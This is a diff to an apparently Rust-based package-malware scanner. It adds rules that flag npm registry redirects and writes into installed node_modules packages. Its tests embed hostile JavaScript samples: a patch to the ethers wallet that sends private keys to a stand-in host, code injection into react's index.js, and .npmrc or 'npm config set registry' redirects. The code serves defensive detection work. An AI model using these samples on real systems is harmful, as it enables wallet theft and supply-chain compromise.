@@ -4,6 +4,7 @@
 use palisade_core::{Capability, Confidence, Finding, Severity};
 
 use super::signals::{self, call_text, contains_any, finding, near, Needles};
+use super::sinks;
 use super::{FileRule, RuleInfo};
 use crate::facts::FileFacts;
 
@@ -203,7 +204,13 @@ const PAYLOAD: &[&str] = &[
     "permitrootlogin yes",
 ];
 
-fn location_in(text: &str) -> Option<(&'static str, Severity)> {
+/// The first [`PAYLOAD`] fragment in a lower-cased text.
+pub(super) fn payload_in(text: &str) -> Option<&'static str> {
+    signals::first_match(text, PAYLOAD)
+}
+
+/// The start-up location a lower-cased path or command names, with its base severity.
+pub(super) fn location_in(text: &str) -> Option<(&'static str, Severity)> {
     LOCATIONS
         .iter()
         .find(|(_, fragments, _)| {
@@ -256,6 +263,209 @@ fn read_calls(file: &FileFacts) -> Vec<(u32, String)> {
         })
         .map(|c| (c.line, call_text(c)))
         .collect()
+}
+
+/// Package-manager configuration: files and commands that set the default registry.
+const PM_CONFIG: &[&str] = &[".npmrc", ".yarnrc", "set registry", "set npmregistryserver"];
+
+/// Writes to npm or yarn configuration, or `npm config set registry …` commands, that point
+/// the package manager at an unfamiliar registry: every later install comes from there.
+fn registry_redirect(file: &FileFacts, reads: &[(u32, String)]) -> Option<Finding> {
+    let text = file.text.as_deref()?;
+    memchr::memmem::find(text.as_bytes(), b"egistry")?;
+    let small = sinks::is_small_handwritten(file);
+    for call in &file.calls {
+        let writes = signals::is_write_call(call);
+        if !writes && !signals::is_exec_call(call) {
+            continue;
+        }
+        let text = call_text(call);
+        let path_is_variable = !signals::first_arg_source(&call.excerpt).contains(['\'', '"', '`']);
+        let nearby = if small {
+            nearby_strings(file, reads, call.line)
+        } else {
+            String::new()
+        };
+        let names_config = contains_any(&text, PM_CONFIG);
+        if !names_config && (!writes || !path_is_variable || !contains_any(&nearby, &[".npmrc", ".yarnrc"])) {
+            continue;
+        }
+        let (host, direct) = match sinks::registry_redirect(&text) {
+            Some(host) => (host, true),
+            None => match sinks::registry_redirect(&nearby) {
+                Some(host) => (host, false),
+                None => continue,
+            },
+        };
+        let confidence = if direct && names_config {
+            Confidence::High
+        } else {
+            Confidence::Medium
+        };
+        return Some(finding(
+            &INFO,
+            file,
+            call.line,
+            Severity::Critical,
+            confidence,
+            format!(
+                "Points the package manager at another registry ({host}): every later install on this machine or in this project would come from a server the package chose."
+            ),
+            &call.excerpt,
+        ));
+    }
+    None
+}
+
+/// Libraries that hold keys or sign transactions: patching them is stealing from wallets.
+const WALLET_LIBRARIES: &[&str] = &[
+    "ethers",
+    "web3",
+    "@solana/web3.js",
+    "bitcoinjs-lib",
+    "tronweb",
+    "viem",
+    "@ethersproject/",
+    "@metamask/",
+    "web3-",
+];
+
+/// What in the file shows that the patch adds a network call or a command.
+const PATCH_PAYLOAD: &[&str] = &["http://", "https://", "child_process", "eval(", "exec("];
+
+/// The name of the installed package that a path points into: `node_modules/<name>/…`
+/// (innermost), ending in a code file or the manifest. Tool folders (`.cache`, `.bin`) are not
+/// packages.
+fn installed_package_file(value: &str) -> Option<String> {
+    let lower = value.trim().to_ascii_lowercase().replace('\\', "/");
+    let at = lower.rfind("node_modules/")?;
+    let mut parts = lower[at + "node_modules/".len()..].split('/');
+    let first = parts.next()?;
+    if first.is_empty() || first.starts_with('.') {
+        return None;
+    }
+    let name = if first.starts_with('@') {
+        format!("{first}/{}", parts.next()?)
+    } else {
+        first.to_string()
+    };
+    let last = parts.next_back()?;
+    let code = [".js", ".cjs", ".mjs"].iter().any(|ext| last.ends_with(ext)) || last == "package.json";
+    code.then_some(name)
+}
+
+/// A write into another installed package's code (`node_modules/ethers/…/wallet.js`): from
+/// then on the victim's own dependency runs the attacker's code. Small hand-written files only.
+/// 1-based lines of `text` that assign the plain identifier `name` (`const name = …`,
+/// `name = …`), not comparisons or arrow functions.
+fn assignment_lines(text: &str, name: &str) -> Vec<u32> {
+    let is_ident = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
+    if name.is_empty() || !name.chars().all(is_ident) {
+        return Vec::new();
+    }
+    let mut lines = Vec::new();
+    for (index, line) in text.lines().enumerate().take(20_000) {
+        let mut from = 0;
+        while let Some(at) = line[from..].find(name).map(|i| i + from) {
+            from = at + name.len();
+            let before_ok = !line[..at].chars().next_back().is_some_and(|c| is_ident(c) || c == '.');
+            let rest = line[from..].trim_start();
+            let after_ok = !rest.chars().next().is_some_and(is_ident)
+                && rest.starts_with('=')
+                && !rest.starts_with("==")
+                && !rest.starts_with("=>");
+            if before_ok && after_ok {
+                lines.push(u32::try_from(index + 1).unwrap_or(u32::MAX));
+                break;
+            }
+        }
+    }
+    lines
+}
+
+fn installed_package_tampering(file: &FileFacts) -> Option<Finding> {
+    if !sinks::is_small_handwritten(file) || !file.text.as_deref().is_some_and(|text| text.contains("node_modules")) {
+        return None;
+    }
+    // Paths a read on their own line uses (`readFileSync('node_modules/x/package.json')`) are
+    // what the file reads, not where it writes.
+    let reads = read_calls(file);
+    let targets: Vec<(u32, String)> = file
+        .strings
+        .iter()
+        .filter(|s| s.value.contains("node_modules"))
+        .filter(|s| {
+            let lower = s.value.to_lowercase();
+            !reads
+                .iter()
+                .any(|(line, text)| *line == s.line && text.contains(&lower))
+        })
+        .filter_map(|s| installed_package_file(&s.value).map(|name| (s.line, name)))
+        .collect();
+    for call in file.calls.iter().filter(|c| signals::is_write_call(c)) {
+        let path_is_variable = !signals::first_arg_source(&call.excerpt).contains(['\'', '"', '`']);
+        let (name, direct) = match installed_package_file(&signals::arg_text(call, 0)) {
+            Some(name) => (name, true),
+            None if path_is_variable => {
+                // A path string a few lines up, or anywhere in the file when the write puts
+                // back what was read from the same variable (`read → replace → write`).
+                let source = signals::first_arg_source(&call.excerpt).trim();
+                let patches = !source.is_empty()
+                    && file.calls.iter().any(|read| {
+                        matches!(signals::method(&read.callee), "readFileSync" | "readFile")
+                            && signals::first_arg_source(&read.excerpt).trim() == source
+                    });
+                // Otherwise the path string must be on a line that assigns the variable
+                // written: a path merely mentioned near a write (a version report that checks
+                // `node_modules/react/index.js` exists, then writes its own file) is not one.
+                let assigned = assignment_lines(file.text.as_deref().unwrap_or(""), source);
+                match targets.iter().find(|(line, _)| patches || assigned.contains(line)) {
+                    Some((_, name)) => (name.clone(), false),
+                    None => continue,
+                }
+            }
+            None => continue,
+        };
+        let payload = file
+            .strings
+            .iter()
+            .find_map(|s| signals::first_match(&s.value.to_ascii_lowercase(), PATCH_PAYLOAD));
+        let wallet = WALLET_LIBRARIES.iter().any(|lib| {
+            if lib.ends_with(['/', '-']) {
+                name.starts_with(lib)
+            } else {
+                name == *lib
+            }
+        });
+        let severity = if payload.is_some() || wallet {
+            Severity::Critical
+        } else {
+            Severity::High
+        };
+        let confidence = if direct || payload.is_some() {
+            Confidence::High
+        } else {
+            Confidence::Medium
+        };
+        let what = if wallet {
+            " (a wallet library: keys and transactions pass through it)"
+        } else {
+            ""
+        };
+        let with = payload.map(|p| format!(", adding `{}`", p.trim())).unwrap_or_default();
+        return Some(finding(
+            &INFO,
+            file,
+            call.line,
+            severity,
+            confidence,
+            format!(
+                "Rewrites the installed package `{name}`{what}{with}: every program using it runs the change from then on."
+            ),
+            &call.excerpt,
+        ));
+    }
+    None
 }
 
 impl FileRule for Persistence {
@@ -320,6 +530,10 @@ impl FileRule for Persistence {
             .collect();
         let any_location = location_string || acting.iter().any(|(_, text)| location_in(text).is_some());
         let any_runner = runner_string || acting.iter().any(|(_, text)| contains_any(text, RUNNER));
+        if !acting.is_empty() {
+            out.extend(installed_package_tampering(file));
+            out.extend(registry_redirect(file, &read_calls(file)));
+        }
         if !any_location && !any_runner {
             return;
         }
@@ -549,6 +763,19 @@ for (const dir of fs.readdirSync(base)) {
         // Finding the client's install directory to read its version is not a write.
         let read = "const fs = require('fs');\nconst v = fs.readFileSync(process.env.LOCALAPPDATA + '/Discord/app-1.0/modules/discord_desktop_core-1/discord_desktop_core/package.json', 'utf8');";
         assert!(run(read).is_empty(), "{:#?}", run(read));
+        // A report that checks another package's file exists, then writes its own file.
+        let report = "const fs = require('fs'), path = require('path');\nconst out = path.join(__dirname, 'v.json');\nconst entry = path.join(process.cwd(), 'node_modules', 'react', 'index.js');\nconst v = { entry: fs.existsSync(entry) };\nfs.writeFileSync(out, JSON.stringify(v));";
+        assert!(run(report).is_empty(), "{:#?}", run(report));
+        // The same write with the path assigned to the written variable is tampering.
+        let tamper = "const fs = require('fs'), path = require('path');\nlet out;\nout = path.join(process.cwd(), 'node_modules', 'react', 'index.js');\nfs.appendFileSync(out, ';require(\"child_process\").exec(process.env.X)');";
+        assert_eq!(worst(&run(tamper)), Some(Severity::Critical), "{:#?}", run(tamper));
+    }
+
+    #[test]
+    fn assignment_lines_find_assignments_not_comparisons() {
+        let text = "const out = 1;\nif (out == 2) {}\nconst f = (out) => out;\nlet about = 3;\nout = 4;\nx.out = 5;";
+        assert_eq!(assignment_lines(text, "out"), vec![1, 5]);
+        assert!(assignment_lines(text, "a.b").is_empty());
     }
 
     #[test]
@@ -568,5 +795,61 @@ const shell = fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8').includ
 fs.writeFileSync(path.join(os.homedir(), '.mytoolrc.json'), JSON.stringify({ shell }));
 "#;
         assert!(run(source).is_empty(), "{:#?}", run(source));
+    }
+
+    #[test]
+    fn patching_an_installed_wallet_library_is_critical() {
+        let source = r#"
+const fs = require("fs"), path = require("path");
+const t = path.join(process.cwd(), "node_modules", "ethers", "lib.commonjs", "wallet", "wallet.js");
+let s = fs.readFileSync(t, "utf8");
+s = s.replace("constructor(key, provider) {", "constructor(key, provider) { require(\"https\").get(\"https://m.example/k?\" + key);");
+fs.writeFileSync(t, s);
+"#;
+        let findings = run(source);
+        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+        assert!(findings[0].message.contains("`ethers`"), "{}", findings[0].message);
+        assert_eq!(findings[0].confidence, Confidence::High);
+        // Another package, patched without a network call: high.
+        let plain = "const fs = require('fs');\nfs.writeFileSync('node_modules/left-pad/index.js', 'module.exports = (s) => s;');";
+        let findings = run(plain);
+        assert_eq!(worst(&findings), Some(Severity::High), "{findings:#?}");
+    }
+
+    #[test]
+    fn caches_and_own_files_are_not_installed_packages() {
+        assert_eq!(installed_package_file("node_modules/.cache/babel-loader/x.js"), None);
+        assert_eq!(installed_package_file("node_modules/.bin/tsc"), None);
+        assert_eq!(installed_package_file("node_modules/lodash"), None);
+        assert_eq!(
+            installed_package_file("C:\\app\\node_modules\\@solana\\web3.js\\lib\\index.cjs.js").as_deref(),
+            Some("@solana/web3.js")
+        );
+        let cache = "const fs = require('fs');\nconst dir = 'node_modules/.cache/my-tool/out.js';\nfs.writeFileSync(dir, code);";
+        assert!(run(cache).is_empty(), "{:#?}", run(cache));
+        // Reading another package's manifest is not writing it.
+        let read = "const fs = require('fs');\nconst p = JSON.parse(fs.readFileSync('node_modules/react/package.json', 'utf8'));";
+        assert!(run(read).is_empty(), "{:#?}", run(read));
+    }
+
+    #[test]
+    fn registry_redirects_in_npmrc_or_commands_are_critical() {
+        for source in [
+            "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.npmrc', '\\nregistry=http://npm-mirror-fast.xyz/\\n');",
+            "require('child_process').execSync('npm config set registry http://203.0.113.9:4873/');",
+            "const fs = require('fs'), path = require('path');\nconst rc = path.join(process.env.INIT_CWD, '.npmrc');\nconst line = 'registry=https://packages.example-cdn.dev/';\nfs.writeFileSync(rc, line);",
+        ] {
+            let findings = run(source);
+            assert_eq!(worst(&findings), Some(Severity::Critical), "{source}: {findings:#?}");
+            assert!(findings[0].message.contains("another registry"), "{}", findings[0].message);
+        }
+        // A token for the public registry, a scoped private registry, a known mirror: quiet.
+        for source in [
+            "const fs = require('fs');\nfs.writeFileSync('.npmrc', '//registry.npmjs.org/:_authToken=' + process.env.NPM_TOKEN);",
+            "const fs = require('fs');\nfs.writeFileSync('.npmrc', '@acme:registry=https://npm.acme.internal/');",
+            "require('child_process').execSync('npm config set registry https://registry.npmmirror.com');",
+        ] {
+            assert!(run(source).is_empty(), "{source}: {:#?}", run(source));
+        }
     }
 }
